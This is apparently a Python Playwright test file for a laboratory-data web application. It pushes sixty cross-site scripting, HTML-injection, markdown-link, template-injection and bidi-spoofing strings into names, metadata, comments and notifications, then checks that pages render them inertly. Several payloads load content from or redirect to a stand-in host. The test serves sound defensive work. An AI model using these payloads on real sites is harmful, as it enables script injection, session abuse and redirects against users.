"""Sixty hostile texts through every field that a page shows: nothing runs, nothing foreign is asked for."""

import json

import pytest
import requests
from playwright.sync_api import expect

from tests.browser import chromium, visit
from tests.factories import PASSWORD
from tests.service import Service
from wire.names import BIDIRECTIONAL_CONTROLS

INES = "ines@halden.example"
ELSEWHERE = "evil.example"
RUN_JS = "alert(1)"
TEXTS = [
    f"<script>{RUN_JS}</script>",
    f"<ScRiPt src=//{ELSEWHERE}></sCrIpT>",
    f"</title><script>{RUN_JS}</script>",
    f"</textarea><script>{RUN_JS}</script>",
    f"</style><script>{RUN_JS}</script>",
    f"<!--><script>{RUN_JS}</script>-->",
    f"<![CDATA[<script>{RUN_JS}</script>]]>",
    f'"><script>{RUN_JS}</script>',
    f"'><script>{RUN_JS}</script>",
    f'"><img src=x onerror={RUN_JS}>',
    f"'><img src=x onerror={RUN_JS}>",
    f"<img src=x onerror={RUN_JS}>",
    f"<img src=//{ELSEWHERE}/a.png>",
    f'<img src="x" onerror="{RUN_JS}">',
    f"<img/src=`x`onerror={RUN_JS}>",
    f"<svg onload={RUN_JS}>",
    f"<svg><script>{RUN_JS}</script></svg>",
    f"<svg><animate onbegin={RUN_JS} attributeName=x dur=1s>",
    f"<svg><use href=//{ELSEWHERE}#x /></svg>",
    f"<body onload={RUN_JS}>",
    f"<iframe src=javascript:{RUN_JS}>",
    f"<iframe srcdoc='<script>{RUN_JS}</script>'>",
    f"<object data=//{ELSEWHERE}/x>",
    f"<embed src=//{ELSEWHERE}/x>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<meta http-equiv=refresh content=0;url=//{ELSEWHERE}>",
    f"<base href=//{ELSEWHERE}/>",
    f"<form action=//{ELSEWHERE}><button>x</button></form>",
    f"<input autofocus onfocus={RUN_JS}>",
    f"<details open ontoggle={RUN_JS}>",
    f"<video src=x onerror={RUN_JS}>",
    f"<audio src=x onerror={RUN_JS}>",
    f"<marquee onstart={RUN_JS}>",
    f"<a href=javascript:{RUN_JS}>x</a>",
    f"<a href='data:text/html,<script>{RUN_JS}</script>'>x</a>",
    f"<math><mtext><script>{RUN_JS}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN_JS}>'>",
    f"<template><script>{RUN_JS}</script></template>",
    f"<div hx-get=//{ELSEWHERE} hx-trigger=load>x</div>",
    f"<div hx-on:load={RUN_JS}>x</div>",
    "<div data-hx-get=/accounts/logout/ data-hx-trigger=load>x</div>",
    f'" onmouseover="{RUN_JS}" x="',
    f"' onmouseover='{RUN_JS}' x='",
    f'" autofocus onfocus="{RUN_JS}',
    f"` onmouseover=`{RUN_JS}`",
    f"javascript:{RUN_JS}",
    f"[x](javascript:{RUN_JS})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x]: javascript:{RUN_JS}",
    f"![x](http://{ELSEWHERE}/a.png)",
    f"![x](//{ELSEWHERE}/a.png)",
    f'<http://{ELSEWHERE}/"onclick={RUN_JS}>',
    f'[x](http://{ELSEWHERE} "\'onclick={RUN_JS}")',
    f"```<script>{RUN_JS}</script>```",
    "{{ 7*7 }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>gnp.exe\u202c",
    f"\u2028<script>{RUN_JS}</script>\u2029",
]

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    with Service(tmp_path_factory.mktemp("hostile") / "data") as service:
        service.manage("create_admin", INES, "--name", TEXTS[9], IDS_ADMIN_PASSWORD=PASSWORD)
        fill(service)
        yield service


def fill(service):
    """One instrument; each text as the name of a run, of a file, a metadata key and value and a comment."""
    scopes = "instruments:create,instruments:write,runs:create,runs:comment,files:create"
    more = "watchers:report,notifications:create"
    token = service.manage("create_token", TEXTS[11], "--scopes", f"{scopes},{more}").strip()
    api = requests.Session()
    api.headers["Authorization"] = f"Bearer {token}"

    def post(path, body):
        answer = api.post(f"{service.url}/api/v1/{path}", json=body, timeout=30)
        assert answer.ok, answer.text
        return answer.json()

    post("instruments", {"id": "hostile", "display_name": TEXTS[15]})
    metadata = {f"key {text}"[:64]: text for text in TEXTS} | {f"k{number}": text for number, text in enumerate(TEXTS)}
    post("instruments/hostile/runs", {"run_id": "the-one", "metadata": metadata})
    for number, text in enumerate(TEXTS):
        name = BIDIRECTIONAL_CONTROLS.sub("", as_name(text, number))
        post("instruments/hostile/runs", {"run_id": name, "metadata": {"note": text[:200]}})
        post("instruments/hostile/runs/the-one/files", {"filename": name})
        post("instruments/hostile/runs/the-one/comments", {"body": text})
    person = service.manage("shell", "-v0", "-c", FIND_INES).strip()
    watch(service, post)
    for text in TEXTS:
        post("notifications/dispatch", {"user_ids": [person], "message": text})


FIND_INES = f"from accounts.models import User; print(User.objects.get(email='{INES}').pk)"


def watch(service, post):
    """A watcher whose every word is hostile."""
    said = {"instrument_id": "hostile", "hostname": TEXTS[10], "os_info": TEXTS[11]}
    watcher = post("watchers/register", said)["watcher_id"]
    heartbeat = {"status": "watching", "agent_version": "1.0", "watch_directory": TEXTS[16]}
    post(f"watchers/{watcher}/heartbeat", heartbeat)
    at = "2026-11-20T12:00:00Z"
    events = [{"event_type": "error", "timestamp": at, "message": text, "details": {text[:60]: text}} for text in TEXTS]
    post(f"watchers/{watcher}/events", {"events": events})


def as_name(text, number):
    """Separators and line separators are refused in names; full-width ones are not."""
    return f"{number} {text}".replace("/", "\uff0f").replace("\\", "\uff3c").strip()


@pytest.fixture(scope="module")
def session(service):
    with chromium() as browser, visit(browser, service.url) as visitor:
        visitor.page.goto("/accounts/login/")
        visitor.page.get_by_label("E-mail").fill(INES)
        visitor.page.get_by_label("Password").fill(PASSWORD)
        visitor.page.get_by_role("button", name="Sign in").click()
        expect(visitor.page.get_by_role("navigation", name="Main")).to_be_visible()
        yield browser, visitor.page.context.storage_state()


def test_there_are_sixty_of_them():
    assert len(set(TEXTS)) == 60


@pytest.mark.parametrize(
    "path",
    [
        "/runs?per_page=100",
        "/instruments?status=pending",
        "/instruments/hostile?per_page=100",
        "/instruments/hostile/edit",
        "/instruments/hostile/runs/the-one",
        "/instruments/hostile/runs/the-one?page=2",
        "/instruments/hostile/runs/the-one/archive",
        "/downloads?run=hostile/the-one",
        "/",
        "/search?q=script",
        "/search?q=onerror",
        "/watchers",
        "the watcher",
        "/inbox",
        "/settings/tokens",
        "/settings/members",
        "/settings/profile",
        "/settings/notifications",
        "/feedback",
    ],
)
def test_a_page_shows_them_as_text(service, session, path):
    browser, state = session
    with visit(browser, service.url, storage_state=state) as visitor:
        dialogs = []
        visitor.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

        if path == "the watcher":
            visitor.page.goto("/watchers")
            path = visitor.page.locator("tbody .key a").first.get_attribute("href")
        visitor.page.goto(path)
        visitor.page.wait_for_load_state("networkidle")
        found = visitor.page.evaluate(
            "document.querySelectorAll('main :is(script, iframe, object, embed, base, [onerror], [onload])').length"
        )

        assert (dialogs, found) == ([], 0)


def test_the_options_of_a_filter_are_text(service, session):
    browser, state = session
    with visit(browser, service.url, storage_state=state) as visitor:
        visitor.page.goto("/runs?instrument_id=hostile")
        visitor.page.get_by_text("Metadata", exact=True).click()
        visitor.page.get_by_text("note", exact=True).locator("visible=true").click()

        expect(visitor.page.get_by_text(TEXTS[0], exact=True).first).to_be_visible()


def test_a_search_shows_what_was_asked_as_text(service, session):
    browser, state = session
    with visit(browser, service.url, storage_state=state) as visitor:
        visitor.page.goto(f"/runs?search={requests.utils.quote(TEXTS[7])}")

        shown = visitor.page.get_by_role("searchbox", name="Part of a run's name").input_value()

        assert json.dumps(shown) == json.dumps(TEXTS[7])
